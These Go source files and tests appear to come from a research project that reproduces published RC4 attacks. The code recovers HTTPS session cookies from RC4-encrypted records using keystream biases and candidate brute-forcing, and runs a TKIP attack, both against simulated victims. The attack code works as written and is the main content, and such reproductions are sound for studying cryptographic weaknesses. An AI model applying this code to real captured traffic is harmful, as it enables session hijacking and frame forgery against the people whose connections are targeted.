func (a *Attack) ObserveRecord(body []byte) error {
	if len(body) < len(a.cfg.Plaintext) {
		return errors.New("cookieattack: record shorter than modeled plaintext")
	}
	for r := 0; r < a.chain; r++ {
		p := a.cfg.Offset - 1 + r
		a.fm[r][int(body[p])*256+int(body[p+1])]++
		tbl := a.absab[r]
		for _, an := range a.anchors[r] {
			d1 := body[p] ^ body[an.q]
			d2 := body[p+1] ^ body[an.q+1]
			// Supported candidate pair: µ = Ĉ ⊕ known anchor plaintext.
			tbl[int(d1^an.k1)*256+int(d2^an.k2)] += an.w
		}
	}
	a.Records++
	return nil
}

// ObserveRecords folds a batch of n record bodies laid out back to back in
// flat at the given stride (only the first len(Config.Plaintext) bytes of
// each record are read; stride may exceed that for padded layouts). It is
// bitwise identical to calling ObserveRecord on each record in order, for
// any batch split and any Workers value, and roughly an order of magnitude
// faster: the scalar path cycles all 17 half-megabyte ABSAB tables per
// record, so every table add misses cache, while the batched path goes
// link-major — each table stays resident while the whole batch folds into
// it — and fans the links over the Workers pool (links write disjoint
// tables, and float adds within a link keep the exact record-then-anchor
// order of the scalar path, so reordering links never changes a bit).
//
// The index algebra matches ObserveRecord by XOR associativity: with
// e[j] = body[j]^pt[j], the scalar cell index
//
//	(d1^k1, d2^k2) = (body[p]^body[q]^pt[q], body[p+1]^body[q+1]^pt[q+1])
//
// equals (body[p]<<8 | body[p+1]) XOR (e[q]<<8 | e[q+1]). The pair-words
// (e[q]<<8 | e[q+1]) depend only on the record, not the link, so each row
// is computed once into vbuf and shared by all 17 links, turning the inner
// loop into one uint16 load, one XOR, and one table add.
func (a *Attack) ObserveRecords(flat []byte, n, stride int) error {
	plen := len(a.cfg.Plaintext)
	if stride < plen {
		return errors.New("cookieattack: record shorter than modeled plaintext")
	}
	if n <= 0 {
		if n < 0 {
			return errors.New("cookieattack: negative batch size")
		}
		return nil
	}
	if len(flat) < (n-1)*stride+plen {
		return errors.New("cookieattack: batch buffer shorter than its declared records")
	}
	vw := a.vw
	if cap(a.vbuf) < n*vw {
		a.vbuf = make([]uint16, n*vw)
	}
	v := a.vbuf[:n*vw]
	if vw > 0 {
		// An anchor at q reads pt[q] and pt[q+1], so the byte window is one
		// wider than the pair-word window.
		pt := a.cfg.Plaintext[a.vlo : a.vlo+vw+1]
		for i := 0; i < n; i++ {
			b := flat[i*stride+a.vlo : i*stride+a.vlo+vw+1]
			row := v[i*vw : (i+1)*vw]
			hi := b[0] ^ pt[0]
			for j := range row {
				lo := b[j+1] ^ pt[j+1]
				row[j] = uint16(hi)<<8 | uint16(lo)
				hi = lo
			}
		}
	}
	err := dataset.ForShards(a.Workers, a.chain, func(r int) error {
		a.foldLinkBatch(r, flat, n, stride, v, vw)
		return nil
	})
	if err != nil {
		return err
	}
	a.Records += uint64(n)
	return nil
}

// foldLinkBatch folds one chain link's evidence for a whole batch. It only
// touches link-local tables, which is what lets ObserveRecords run the links
// concurrently.
func (a *Attack) foldLinkBatch(r int, flat []byte, n, stride int, v []uint16, vw int) {
	p := a.cfg.Offset - 1 + r
	// New (and the snapshot loader) guarantee full 65536-cell tables; the
	// array-pointer views let index arithmetic on uint16-ranged values prove
	// bounds at compile time.
	fm := (*[65536]uint64)(a.fm[r])
	tbl := (*[65536]float64)(a.absab[r])
	runs := a.foldRuns[r]
	// cc is the raw ciphertext pair (body[p]<<8 | body[p+1]). When p lies
	// inside the anchor window — the common case, since anchors cluster on
	// both sides of the cookie — it comes from the already-hot vbuf row
	// (row[p-vlo] holds the XORed pair, so XORing the plaintext pair back
	// out recovers the ciphertext pair) and the hot loop never touches the
	// flat capture copy at all.
	ccIdx := p - a.vlo
	ccInWin := ccIdx >= 0 && ccIdx < vw
	ptcc := uint32(a.cfg.Plaintext[p])<<8 | uint32(a.cfg.Plaintext[p+1])
	for i := 0; i < n; i++ {
		row := v[i*vw : i*vw+vw]
		var cc uint32
		if ccInWin {
			cc = uint32(row[ccIdx]) ^ ptcc
		} else {
			b := flat[i*stride:]
			cc = uint32(b[p])<<8 | uint32(b[p+1])
		}
		fm[cc]++
		for _, run := range runs {
			q0 := int(run.q0)
			nw := len(run.ws)
			if !run.down {
				// Anchor j reads pair-word row[q0+j].
				vr := row[q0 : q0+nw]
				for j, w := range run.ws {
					tbl[uint32(vr[j])^cc] += w
				}
			} else {
				// Anchor j reads pair-word row[q0-j].
				vr := row[q0+1-nw : q0+1]
				for j, w := range run.ws {
					tbl[uint32(vr[nw-1-j])^cc] += w
				}
			}
		}
	}
}

// Likelihoods combines the FM and ABSAB evidence into one pair-likelihood
// chain (eq. 25). Chain link r covers plaintext positions
// (Offset-1+r, Offset+r). The chain links are independent, so the pass
// fans them over the Workers pool (bitwise identical for any worker
// count), and the 17 tables are reused across calls — the online runtime
// re-runs this at every decode point. The returned slice aliases the
// attack's scratch: it is valid until the next Likelihoods call.
func (a *Attack) Likelihoods() ([]*recovery.PairLikelihoods, error) {
	if a.lk == nil {
		a.lk = make([]*recovery.PairLikelihoods, a.chain)
		for r := range a.lk {
			a.lk[r] = new(recovery.PairLikelihoods)
		}
	}
	err := dataset.ForShards(a.Workers, a.chain, func(r int) error {
		i := (a.cfg.CounterBase + r) % 256
		lk := a.lk[r]
		if err := recovery.FMPairLikelihoodsInto(lk, a.fm[r], i); err != nil {
			return err
		}
		for c, w := range a.absab[r] {
			lk[c] += w
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return a.lk, nil
}

// Candidates generates the n most likely cookies (full values, without the
// surrounding known bytes) via Algorithm 2, reusing the attack's likelihood
// tables and list-Viterbi decoder across calls.
func (a *Attack) Candidates(n int) ([]recovery.Candidate, error) {
	lks, err := a.Likelihoods()
	if err != nil {
		return nil, err
	}
	m1 := a.cfg.Plaintext[a.cfg.Offset-1]
	mL := a.cfg.Plaintext[a.cfg.Offset+a.cfg.CookieLen]
	a.decoder.Workers = a.Workers
	cands, err := a.decoder.Decode(lks, m1, mL, n, a.cfg.Charset)
	if err != nil {
		return nil, err
	}
	// Strip the anchors: the caller wants cookie values.
	for i := range cands {
		cands[i].Plaintext = cands[i].Plaintext[1 : a.cfg.CookieLen+1]
	}
	return cands, nil
}

// Observed reports the records folded into the evidence pool — the
// online runtime's progress counter.
func (a *Attack) Observed() uint64 { return a.Records }

// Decode generates up to max ranked cookie candidates from the current
// evidence — the online runtime's decode step.
func (a *Attack) Decode(max int) (recovery.CandidateSource, error) {
	cands, err := a.Candidates(max)
	if err != nil {
		return nil, err
	}
	return recovery.SliceSource(cands), nil
}

// WalkCandidates walks an already-generated candidate list, calling check
// until it accepts; it returns the accepted value and its 1-based list
// position. This is the oracle half of BruteForce, split from candidate
// generation so one enumeration can serve several oracle passes (the
// online loop decodes once per round and walks the result).
func WalkCandidates(cands []recovery.Candidate, check func([]byte) bool) ([]byte, int, error) {
	for i, c := range cands {
		if check(c.Plaintext) {
			return c.Plaintext, i + 1, nil
		}
	}
	return nil, 0, errors.New("cookieattack: cookie not in candidate list")
}

// BruteForce generates the n most likely cookies and walks them against
// check (e.g. an HTTPS request presenting the cookie) — the §6.2
// negligible-time brute-force, composed from Candidates and WalkCandidates.
func (a *Attack) BruteForce(n int, check func([]byte) bool) ([]byte, int, error) {
	cands, err := a.Candidates(n)
	if err != nil {
		return nil, 0, err
	}
	return WalkCandidates(cands, check)
}

// SimulateStatistics fills the evidence tables by drawing sufficient
// statistics for nRecords model-mode records directly, instead of
// constructing each record (the paper's Figures 7 and 10 are simulations in
// the same sense — at 2^39 ciphertexts per point no testbed generates them
// one by one):
//
//   - FM digraph histograms: per-cell normal approximation of the
//     multinomial over the Fluhrer–McGrew distribution at the link's PRGA
//     counter, XOR-shifted by the true plaintext pair.
//   - ABSAB evidence: per anchor, the number of keystream-digraph
//     coincidences is Binomial(nRecords, β(g)); coincidences support the
//     true pair, non-coincidences spread uniformly. Both are sampled with
//     normal approximations, aggregated per cell across anchors.
//
// truth is the true cookie value.
//
// The chain links are statistically independent, so the simulation fans out
// over them with the engine's shard/queue pattern: each link draws from its
// own RNG (seeded up front from rng, in link order) and writes only its own
// fm/absab tables. The result is bitwise identical for any Workers value —
// one worker reproduces exactly what sixteen produce.
func (a *Attack) SimulateStatistics(rng *rand.Rand, truth []byte, nRecords uint64) error {
	if len(truth) != a.cfg.CookieLen {
		return errors.New("cookieattack: truth length mismatch")
	}
	chainBytes := make([]byte, a.chain+1)
	chainBytes[0] = a.cfg.Plaintext[a.cfg.Offset-1]
	copy(chainBytes[1:], truth)
	chainBytes[a.chain] = a.cfg.Plaintext[a.cfg.Offset+a.cfg.CookieLen]

	seeds := make([]int64, a.chain)
	for r := range seeds {
		seeds[r] = rng.Int63()
	}
	err := dataset.ForShards(a.Workers, a.chain, func(r int) error {
		a.simulateLink(rand.New(rand.NewSource(seeds[r])), r, chainBytes[r], chainBytes[r+1], float64(nRecords))
		return nil
	})
	if err != nil {
		return err
	}
	a.Records += nRecords
	return nil
}

// simulateLink draws the sufficient statistics of one chain link. It only
// touches link-local state, which is what lets SimulateStatistics run the
// links concurrently.
func (a *Attack) simulateLink(rng *rand.Rand, r int, pt1, pt2 byte, n float64) {
	i := (a.cfg.CounterBase + r) % 256
	// FM histogram: cell (c1,c2) sees keystream digraph (c1⊕pt1, c2⊕pt2).
	dist := biases.FMDistribution(i)
	hist := a.fm[r]
	for c1 := 0; c1 < 256; c1++ {
		z1 := c1 ^ int(pt1)
		for c2 := 0; c2 < 256; c2++ {
			mean := n * dist[z1*256+(c2^int(pt2))]
			v := mean + math.Sqrt(mean)*rng.NormFloat64()
			if v < 0 {
				v = 0
			}
			hist[c1*256+c2] += uint64(v + 0.5)
		}
	}
	// ABSAB: aggregate hit weight on the true cell, aggregate miss
	// noise across all cells.
	var hitW, missMean, missVar float64
	for _, an := range a.anchors[r] {
		beta := biases.ABSABCopyProb(an.gap)
		mean := n * beta
		hits := mean + math.Sqrt(mean*(1-beta))*rng.NormFloat64()
		if hits < 0 {
			hits = 0
		}
		hitW += hits * an.w
		misses := n - hits
		missMean += an.w * misses / 65536
		missVar += an.w * an.w * misses / 65536
	}
	tbl := a.absab[r]
	sd := math.Sqrt(missVar)
	for c := range tbl {
		v := missMean + sd*rng.NormFloat64()
		if v < 0 {
			v = 0
		}
		tbl[c] += v
	}
	tbl[int(pt1)*256+int(pt2)] += hitW
}
