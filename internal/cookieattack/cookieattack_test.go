package cookieattack

import (
	"bytes"
	"math/rand"
	"testing"

	"rc4break/internal/httpmodel"
	"rc4break/internal/rc4"
	"rc4break/internal/recovery"
)

func testConfig(cookie string) Config {
	req := httpmodel.Request{
		Host:         "site.com",
		Path:         "/",
		CookieName:   "auth",
		Cookie:       cookie,
		FixedHeaders: httpmodel.DefaultFixedHeaders(),
		Padding:      "injected1=knownknownknownknownknownknownknownknownknownknownknownknownknownknownknownknownknownknownknownknownknownknownknownknownknown1",
	}
	plain := req.Marshal()
	off := req.CookieOffset()
	return Config{
		CookieLen:   len(cookie),
		Offset:      off,
		Plaintext:   plain,
		CounterBase: off % 256, // PRGA counter of chain byte 0 at position off-1 (1-indexed off)
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	}
}

func TestNewValidation(t *testing.T) {
	cfg := testConfig("0123456789abcdef")
	if _, err := New(cfg); err != nil {
		t.Fatal(err)
	}
	bad := cfg
	bad.CookieLen = 0
	if _, err := New(bad); err == nil {
		t.Error("zero cookie length accepted")
	}
	bad = cfg
	bad.Offset = 0
	if _, err := New(bad); err == nil {
		t.Error("cookie at offset 0 accepted (no left anchor)")
	}
	bad = cfg
	bad.MaxGap = -1
	if _, err := New(bad); err == nil {
		t.Error("negative gap accepted")
	}
	bad = cfg
	bad.CounterBase = 300
	if _, err := New(bad); err == nil {
		t.Error("counter base 300 accepted")
	}
	bad = cfg
	bad.Plaintext = cfg.Plaintext[:cfg.Offset+cfg.CookieLen]
	if _, err := New(bad); err == nil {
		t.Error("cookie at end of plaintext accepted (no right anchor)")
	}
}

func TestAnchorsBothSides(t *testing.T) {
	a, err := New(testConfig("0123456789abcdef"))
	if err != nil {
		t.Fatal(err)
	}
	counts := a.AnchorsPerPair()
	if len(counts) != 17 {
		t.Fatalf("%d chain links, want 17", len(counts))
	}
	for r, c := range counts {
		// With long known plaintext on both sides, each link should have
		// close to the paper's 2·129 anchors (a few fewer near the ends
		// where anchors would overlap the cookie or run off the request).
		if c < 200 || c > 258 {
			t.Errorf("link %d: %d anchors", r, c)
		}
	}
}

func TestAnchorsNeverOverlapCookie(t *testing.T) {
	cfg := testConfig("0123456789abcdef")
	a, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for r, as := range a.anchors {
		for _, an := range as {
			for _, j := range []int{an.q, an.q + 1} {
				if j >= cfg.Offset && j < cfg.Offset+cfg.CookieLen {
					t.Fatalf("link %d anchor at %d overlaps cookie", r, an.q)
				}
			}
		}
	}
}

func TestObserveRecordRejectsShort(t *testing.T) {
	a, err := New(testConfig("0123456789abcdef"))
	if err != nil {
		t.Fatal(err)
	}
	if err := a.ObserveRecord([]byte{1, 2, 3}); err == nil {
		t.Error("short record accepted")
	}
}

func TestExactModeMatchesHistogramPath(t *testing.T) {
	// Folding ABSAB evidence incrementally with ABSABWeight must equal
	// histogramming differentials then ABSABPairLikelihoods. Use a tiny
	// gap set and compare one link's table.
	cookie := "ABCDEFGHIJKLMNOP"
	cfg := testConfig(cookie)
	cfg.MaxGap = 2
	a, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	// Build a reference histogram for link 0's first forward anchor.
	ref := a.anchors[0][0]
	hist := make([]uint64, 65536)
	rng := rand.New(rand.NewSource(3))
	key := make([]byte, 16)
	for rec := 0; rec < 200; rec++ {
		rng.Read(key)
		c := rc4.MustNew(key)
		body := make([]byte, len(cfg.Plaintext))
		c.XORKeyStream(body, cfg.Plaintext)
		if err := a.ObserveRecord(body); err != nil {
			t.Fatal(err)
		}
		p := cfg.Offset - 1
		d1 := body[p] ^ body[ref.q]
		d2 := body[p+1] ^ body[ref.q+1]
		hist[int(d1)*256+int(d2)]++
	}
	want, err := recovery.ABSABPairLikelihoods(hist, ref.gap, ref.k1, ref.k2)
	if err != nil {
		t.Fatal(err)
	}
	// a.absab[0] contains contributions from ALL anchors; we can't compare
	// totals directly, but the single-anchor path can be reproduced: build
	// a second attack limited to that anchor via MaxGap=0 forward... easier:
	// recompute incrementally here and compare to the histogram path.
	tbl := make([]float64, 65536)
	for c1 := 0; c1 < 256; c1++ {
		for c2 := 0; c2 < 256; c2++ {
			n := hist[c1*256+c2]
			if n == 0 {
				continue
			}
			tbl[(c1^int(ref.k1))*256+(c2^int(ref.k2))] += float64(n) * ref.w
		}
	}
	for mu1 := 0; mu1 < 256; mu1 += 17 {
		for mu2 := 0; mu2 < 256; mu2 += 13 {
			got := tbl[mu1*256+mu2]
			w := want.At(byte(mu1), byte(mu2))
			if diff := got - w; diff > 1e-9 || diff < -1e-9 {
				t.Fatalf("(%d,%d): incremental %v, histogram %v", mu1, mu2, got, w)
			}
		}
	}
}

func TestModelModeRecoversCookie(t *testing.T) {
	// The headline §6 result: model-mode statistics cost O(1) in the
	// record count, so we simulate at full paper scale (2^31 records,
	// beyond the 9·2^27 the paper needs for 94% success) and demand the
	// cookie within a 2^12-deep candidate list (the paper allows 2^23).
	cookie := "Sess10nT0ken+Xyz"
	cfg := testConfig(cookie)
	a, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewSource(42))
	if err := a.SimulateStatistics(rng, []byte(cookie), 1<<31); err != nil {
		t.Fatal(err)
	}
	got, rank, err := a.BruteForce(1<<12, func(c []byte) bool {
		return bytes.Equal(c, []byte(cookie))
	})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, []byte(cookie)) {
		t.Fatalf("recovered %q", got)
	}
	t.Logf("cookie found at rank %d", rank)
	if rank > 1<<12 {
		t.Fatalf("rank %d too deep", rank)
	}
}

func TestSimulateStatisticsValidation(t *testing.T) {
	a, err := New(testConfig("0123456789abcdef"))
	if err != nil {
		t.Fatal(err)
	}
	if err := a.SimulateStatistics(rand.New(rand.NewSource(1)), []byte("short"), 10); err == nil {
		t.Error("truth length mismatch accepted")
	}
}

func TestBruteForceNotFound(t *testing.T) {
	a, err := New(testConfig("0123456789abcdef"))
	if err != nil {
		t.Fatal(err)
	}
	// No evidence at all: candidate list is arbitrary; reject everything.
	if _, _, err := a.BruteForce(4, func([]byte) bool { return false }); err == nil {
		t.Error("expected not-found error")
	}
}

func TestCandidatesRespectCharset(t *testing.T) {
	cookie := "0123456789abcdef"
	cfg := testConfig(cookie)
	a, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	rng := rand.New(rand.NewSource(2))
	if err := a.SimulateStatistics(rng, []byte(cookie), 1<<16); err != nil {
		t.Fatal(err)
	}
	cands, err := a.Candidates(50)
	if err != nil {
		t.Fatal(err)
	}
	allowed := map[byte]bool{}
	for _, c := range httpmodel.CookieCharset() {
		allowed[c] = true
	}
	for _, c := range cands {
		if len(c.Plaintext) != len(cookie) {
			t.Fatalf("candidate length %d", len(c.Plaintext))
		}
		for _, b := range c.Plaintext {
			if !allowed[b] {
				t.Fatalf("candidate byte %q outside charset", b)
			}
		}
	}
}

// TestLikelihoodsWorkerInvarianceAndReuse pins the decode-path contract the
// online runtime depends on: Likelihoods and Candidates are bitwise
// identical for any Workers value, and repeated calls on one attack (which
// reuse the likelihood tables and list-Viterbi decoder) reproduce the first
// call exactly.
func TestLikelihoodsWorkerInvarianceAndReuse(t *testing.T) {
	secret := "0123456789abcdef"
	attack, err := New(testConfig(secret))
	if err != nil {
		t.Fatal(err)
	}
	if err := attack.SimulateStatistics(rand.New(rand.NewSource(9)), []byte(secret), 1<<24); err != nil {
		t.Fatal(err)
	}

	attack.Workers = 1
	ref, err := attack.Likelihoods()
	if err != nil {
		t.Fatal(err)
	}
	refCopy := make([]recovery.PairLikelihoods, len(ref))
	for r := range ref {
		refCopy[r] = *ref[r] // the returned slice aliases attack scratch
	}
	refCands, err := attack.Candidates(64)
	if err != nil {
		t.Fatal(err)
	}

	for _, workers := range []int{1, 2, 7} {
		attack.Workers = workers
		for repeat := 0; repeat < 2; repeat++ {
			lks, err := attack.Likelihoods()
			if err != nil {
				t.Fatal(err)
			}
			for r := range lks {
				if *lks[r] != refCopy[r] {
					t.Fatalf("workers=%d repeat=%d: link %d likelihoods differ", workers, repeat, r)
				}
			}
			cands, err := attack.Candidates(64)
			if err != nil {
				t.Fatal(err)
			}
			if len(cands) != len(refCands) {
				t.Fatalf("workers=%d: %d candidates, want %d", workers, len(cands), len(refCands))
			}
			for i := range cands {
				if !bytes.Equal(cands[i].Plaintext, refCands[i].Plaintext) || cands[i].Score != refCands[i].Score {
					t.Fatalf("workers=%d repeat=%d: candidate %d differs", workers, repeat, i)
				}
			}
		}
	}
}

// TestDecodeMatchesCandidates confirms the online Decode source yields the
// same ranked cookies as Candidates.
func TestDecodeMatchesCandidates(t *testing.T) {
	secret := "0123456789abcdef"
	attack, err := New(testConfig(secret))
	if err != nil {
		t.Fatal(err)
	}
	if err := attack.SimulateStatistics(rand.New(rand.NewSource(10)), []byte(secret), 1<<22); err != nil {
		t.Fatal(err)
	}
	cands, err := attack.Candidates(32)
	if err != nil {
		t.Fatal(err)
	}
	src, err := attack.Decode(32)
	if err != nil {
		t.Fatal(err)
	}
	for i := range cands {
		c, ok := src.Next()
		if !ok || !bytes.Equal(c.Plaintext, cands[i].Plaintext) {
			t.Fatalf("decode candidate %d differs (ok=%v)", i, ok)
		}
	}
	if _, ok := src.Next(); ok {
		t.Fatal("decode source longer than requested depth")
	}
	if attack.Observed() != attack.Records {
		t.Fatal("Observed does not report Records")
	}
}
