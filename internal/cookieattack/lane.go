package cookieattack

import (
	"math/rand"

	"rc4break/internal/snapshot"
)

// CollectLane runs one fleet worker's model-mode collect loop: a fresh
// evidence accumulator for the given request layout, filled with `records`
// simulated observations drawn from the lane's own RNG stream and stamped
// with the lane's stream identity. Lane evidence is a pure function of
// (config, secret, laneSeed, records) — a worker that dies mid-lane loses
// nothing but time, because whoever re-captures the lane after the lease
// expires reproduces it byte for byte.
func CollectLane(cfg Config, secret []byte, stream snapshot.StreamInfo, laneSeed int64, records uint64, workers int) (*Attack, error) {
	a, err := New(cfg)
	if err != nil {
		return nil, err
	}
	a.Workers = workers
	a.Stream = stream
	rng := rand.New(rand.NewSource(laneSeed))
	if err := a.SimulateStatistics(rng, secret, records); err != nil {
		return nil, err
	}
	return a, nil
}
