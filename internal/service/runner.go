package service

import (
	"bytes"
	"errors"
	"fmt"
	"math/rand"
	"sync"
	"time"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/obs"
	"rc4break/internal/online"
	"rc4break/internal/rc4"
	"rc4break/internal/recovery"
	"rc4break/internal/snapshot"
	"rc4break/internal/tkip"
	"rc4break/internal/tlsrec"
)

// jobRuntime binds one job spec to live attack state: the decoder/oracle
// pair the online loop drives, the mode-specific capture function, and the
// evidence serializer the checkpoint path persists. Built identically by
// the service runner and by SoloRun, so the two can only differ in
// scheduling — never in evidence.
type jobRuntime struct {
	decoder  online.Decoder
	oracle   online.Oracle
	observed func() uint64
	// capture advances the evidence to exactly target observations.
	capture func(target uint64) error
	// evidence serializes the attack state as snapshot-envelope bytes.
	evidence func() ([]byte, error)
}

// newJobRuntime builds the runtime for spec, resuming from evidence bytes
// (a prior checkpoint blob) when non-nil. TKIP jobs need their trained
// model passed in; cookie jobs ignore it.
func newJobRuntime(spec JobSpec, evidence []byte, model *tkip.PerTSCModel) (*jobRuntime, error) {
	switch spec.Attack {
	case "cookie":
		return newCookieRuntime(spec, evidence)
	case "tkip":
		return newTKIPRuntime(spec, evidence, model)
	}
	return nil, fmt.Errorf("service: unknown attack %q", spec.Attack)
}

func newCookieRuntime(spec JobSpec, evidence []byte) (*jobRuntime, error) {
	req, counterBase, err := netsim.AlignedRequest("site.com", "auth", spec.Secret, 64)
	if err != nil {
		return nil, err
	}
	cfg := cookieattack.Config{
		CookieLen:   len(spec.Secret),
		Offset:      req.CookieOffset(),
		Plaintext:   req.Marshal(),
		CounterBase: counterBase,
		MaxGap:      128,
		Charset:     httpmodel.CookieCharset(),
	}
	attack, err := cookieattack.New(cfg)
	if err != nil {
		return nil, err
	}
	if evidence != nil {
		resumed, err := cookieattack.ReadSnapshot(bytes.NewReader(evidence))
		if err != nil {
			return nil, err
		}
		if resumed.Fingerprint() != attack.Fingerprint() {
			return nil, errors.New("service: evidence blob was captured under a different cookie configuration")
		}
		attack = resumed
	}
	attack.Workers = spec.Workers
	streamID := snapshot.StreamInfo{Mode: spec.Mode, Seed: spec.Seed}
	if attack.Records > 0 && attack.Stream != streamID {
		return nil, fmt.Errorf("service: evidence stream %v does not match spec stream %v", attack.Stream, streamID)
	}
	attack.Stream = streamID

	rt := &jobRuntime{
		decoder:  attack,
		oracle:   &netsim.CookieServer{Secret: []byte(spec.Secret)},
		observed: func() uint64 { return attack.Records },
		evidence: func() ([]byte, error) {
			var buf bytes.Buffer
			err := attack.WriteSnapshot(&buf)
			return buf.Bytes(), err
		},
	}
	switch spec.Mode {
	case "model":
		rt.capture = func(target uint64) error {
			// Each granule derives its noise stream from the continuation
			// point, so a run resumed at any granule boundary draws
			// identically to an uninterrupted one.
			rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(spec.Seed, attack.Records)))
			return attack.SimulateStatistics(rng, []byte(spec.Secret), target-attack.Records)
		}
	case "exact":
		master := make([]byte, 48)
		rand.New(rand.NewSource(spec.Seed)).Read(master)
		victim, err := netsim.NewHTTPSVictim(master, req)
		if err != nil {
			return nil, err
		}
		victim.Skip(attack.Records) // fast-forward past resumed records
		collector := &tlsrec.CollectRequests{WantLen: victim.RecordPlaintextLen()}
		rt.capture = func(target uint64) error {
			var observeErr error
			for attack.Records < target {
				if err := collector.Feed(victim.SendRequest(), func(body []byte) {
					if err := attack.ObserveRecord(body); err != nil && observeErr == nil {
						observeErr = err
					}
				}); err != nil {
					return err
				}
				if observeErr != nil {
					return observeErr
				}
			}
			return nil
		}
	}
	return rt, nil
}

func newTKIPRuntime(spec JobSpec, evidence []byte, model *tkip.PerTSCModel) (*jobRuntime, error) {
	if model == nil {
		return nil, errors.New("service: tkip runtime needs a trained model")
	}
	session := tkip.DemoSession()
	victim := netsim.NewWiFiVictim(session, tkip.DemoPayload)
	var attack *tkip.Attack
	var err error
	if evidence != nil {
		attack, err = tkip.ReadAttackSnapshot(bytes.NewReader(evidence), model)
	} else {
		attack, err = tkip.NewAttack(model, tkip.TrailerPositions(len(victim.MSDU)))
	}
	if err != nil {
		return nil, err
	}
	streamID := snapshot.StreamInfo{Mode: spec.Mode, Seed: spec.Seed}
	if attack.Frames > 0 && attack.Stream != streamID {
		return nil, fmt.Errorf("service: evidence stream %v does not match spec stream %v", attack.Stream, streamID)
	}
	attack.Stream = streamID

	rt := &jobRuntime{
		decoder: attack,
		oracle: &tkip.TrailerOracle{
			DA: session.DA, SA: session.SA, MSDU: victim.MSDU,
			Confirm: netsim.ForgeryConfirm(session, victim.MSDU),
		},
		observed: func() uint64 { return attack.Frames },
		evidence: func() ([]byte, error) {
			var buf bytes.Buffer
			err := attack.WriteSnapshot(&buf)
			return buf.Bytes(), err
		},
	}
	switch spec.Mode {
	case "model":
		trailer := trueTrailer(session, victim.MSDU)
		rt.capture = func(target uint64) error {
			rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(spec.Seed, attack.Frames)))
			return attack.SimulateCaptures(rng, trailer, target-attack.Frames)
		}
	case "exact":
		victim.Skip(attack.Frames)
		sniffer := netsim.NewSniffer(victim.FrameLen())
		rt.capture = func(target uint64) error {
			for attack.Frames < target {
				if f := victim.Transmit(); sniffer.Filter(f) {
					attack.Observe(f)
				}
			}
			return nil
		}
	}
	return rt, nil
}

// trueTrailer decrypts one encapsulation with the real key to obtain the
// plaintext MIC‖ICV the model-mode simulation feeds the sampler (the same
// helper cmd/tkipattack uses).
func trueTrailer(s *tkip.Session, msdu []byte) []byte {
	f := s.Encapsulate(msdu, 0)
	key := tkip.MixKey(s.TK, s.TA, 0)
	plain := make([]byte, len(f.Body))
	rc4.MustNew(key[:]).XORKeyStream(plain, f.Body)
	return plain[len(msdu):]
}

// chunkedFeed is the service's online.Feed: it advances capture in absolute
// granules — the next boundary is the smaller of the decode target and the
// next multiple of chunk — acquiring one scheduler slot per granule. The
// boundary sequence is a pure function of (chunk, target history), shared
// bitwise by gated service runs, ungated solo runs, and resumed runs.
type chunkedFeed struct {
	chunk    uint64
	observed func() uint64
	capture  func(target uint64) error
	// gate/ungate bracket each granule with a scheduler slot; nil for solo
	// runs. onAdvance reports observation deltas (the records/s metric).
	gate      func() error
	ungate    func()
	onAdvance func(n uint64)
	// holding marks the slot retained past the granule that reached the
	// decode target: the online loop decodes immediately after AdvanceTo
	// returns, and the gated decoder inherits this slot instead of gating
	// again. Without the carry-over, a stop signal could land between
	// "evidence reached the decode point" and "decode ran" — a state no
	// uninterrupted run passes through, which would desync the resumed run's
	// cadence (the pending decode would be skipped, since cadence points are
	// derived from the observed count).
	holding bool
}

// AdvanceTo implements online.Feed.
func (f *chunkedFeed) AdvanceTo(target uint64) error {
	for {
		at := f.observed()
		if at >= target {
			return nil
		}
		next := target
		if f.chunk > 0 {
			if b := (at/f.chunk + 1) * f.chunk; b < next {
				next = b
			}
		}
		if f.gate != nil && !f.holding {
			if err := f.gate(); err != nil {
				return err
			}
		}
		err := f.capture(next)
		if f.gate != nil {
			if err == nil && next >= target {
				f.holding = true // carry the slot into the decode round
			} else {
				f.holding = false
				f.ungate()
			}
		}
		if err != nil {
			return err
		}
		if f.onAdvance != nil {
			f.onAdvance(f.observed() - at)
		}
	}
}

// gatedDecoder wraps a job's decoder so each decode round holds one
// scheduler slot — decode rounds are the expensive half of the loop, and
// fair-share has to cover them, not just capture. It also counts rounds
// (the server's event/checkpoint bookkeeping) and reports per-round decode
// latency.
type gatedDecoder struct {
	online.Decoder
	// feed is the run's chunkedFeed; a slot it held through the final
	// capture granule is inherited here instead of gating again.
	feed    *chunkedFeed
	gate    func() error
	ungate  func()
	rounds  int
	onRound func(elapsed time.Duration)
	// tracer/parent record one job.decode span per round under the job's
	// run span; nil tracer costs one nil check.
	tracer *obs.Journal
	parent obs.SpanContext
}

func (d *gatedDecoder) Decode(max int) (src recovery.CandidateSource, err error) {
	if d.gate != nil {
		if d.feed != nil && d.feed.holding {
			d.feed.holding = false // slot carried over from capture
		} else if err := d.gate(); err != nil {
			return nil, err
		}
		defer d.ungate()
	}
	d.rounds++
	span := d.tracer.Start(d.parent, "job.decode", obs.Int("round", int64(d.rounds)), obs.Int("max", int64(max)))
	defer span.End()
	if d.onRound == nil {
		return d.Decoder.Decode(max)
	}
	t0 := time.Now() //rc4lint:allow timing decode-round latency metric only; never reaches evidence or persisted state
	src, err = d.Decoder.Decode(max)
	d.onRound(time.Since(t0)) //rc4lint:allow timing decode-round latency metric only
	return src, err
}

// sharedModels caches the deterministic demo-session per-TSC model by
// training size. The model is a pure function of (positions, keys, master)
// — Train is Workers-independent — so every job, every restart, and the
// solo reference share one instance per TrainKeys and the store holds one
// model blob.
var sharedModels struct {
	mu sync.Mutex
	m  map[uint64]*tkip.PerTSCModel
}

// SharedModel trains (once per process per size) and returns the demo
// per-TSC model for the given keys-per-class count.
func SharedModel(trainKeys uint64) (*tkip.PerTSCModel, error) {
	sharedModels.mu.Lock()
	defer sharedModels.mu.Unlock()
	if m, ok := sharedModels.m[trainKeys]; ok {
		return m, nil
	}
